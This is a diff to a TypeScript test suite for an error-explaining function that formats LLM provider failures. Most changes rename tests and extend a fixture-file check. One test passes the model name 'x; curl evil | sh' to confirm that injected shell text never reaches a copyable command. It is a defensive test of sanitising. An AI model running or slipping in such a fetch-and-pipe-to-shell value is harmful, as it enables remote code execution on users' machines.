@@ -4,8 +4,10 @@ import { explainFailure } from "../../src/failures/index.js";
 import { cases, DIALECTS, FOLDER, inputOf } from "../support/failure-cases.js";
 
 describe("explainFailure", () => {
-  it("has a fixture file for every dialect and none besides", () => {
-    expect(readdirSync(FOLDER).sort()).toEqual(DIALECTS.map((name) => `${name}.json`).sort());
+  it("has a fixture file for every dialect and no others", () => {
+    const files = DIALECTS.flatMap((name) => [`${name}.json`, `${name}.words.txt`]);
+    files.push("network.words.txt");
+    expect(readdirSync(FOLDER).sort()).toEqual(files.sort());
     expect(cases.length).toBeGreaterThan(170);
     expect(new Set(cases.map((one) => one.title)).size).toBe(cases.length);
   });
@@ -43,7 +45,7 @@ describe("explainFailure", () => {
     expect(failure.message).toContain("us-east-1");
   });
 
-  it("speaks without any context", () => {
+  it("works without any context", () => {
     const failure = explainFailure({
       dialect: "openai",
       step: "list",
@@ -58,7 +60,7 @@ describe("explainFailure", () => {
     expect(failure.detail).toBeNull();
   });
 
-  it("lets no control character of a config through", () => {
+  it("lets no control character from a config through", () => {
     const failure = explainFailure({
       dialect: "openai",
       step: "chat",
@@ -71,7 +73,7 @@ describe("explainFailure", () => {
     expect(failure.message).toContain('"gpt[31m-5x"');
   });
 
-  it("puts into a command to copy only what is a plain name", () => {
+  it("puts only plain names into a command to copy", () => {
     const hintFor = (model: string) =>
       explainFailure({
         dialect: "ollama",
@@ -88,7 +90,7 @@ describe("explainFailure", () => {
     expect(hintFor("x; curl evil | sh")).toContain("`ollama pull MODEL`");
   });
 
-  it("never calls a key bad for a 5xx, an unknown status or a strange body", () => {
+  it("never blames the key for a 5xx, an unknown status or a strange body", () => {
     for (const dialect of DIALECTS) {
       for (const status of [500, 502, 503, 504, 520, 529, 599, 418, 451, 200]) {
         for (const text of ["", "oops", '{"a":1}', "<html></html>", '["x"]', "42"]) {
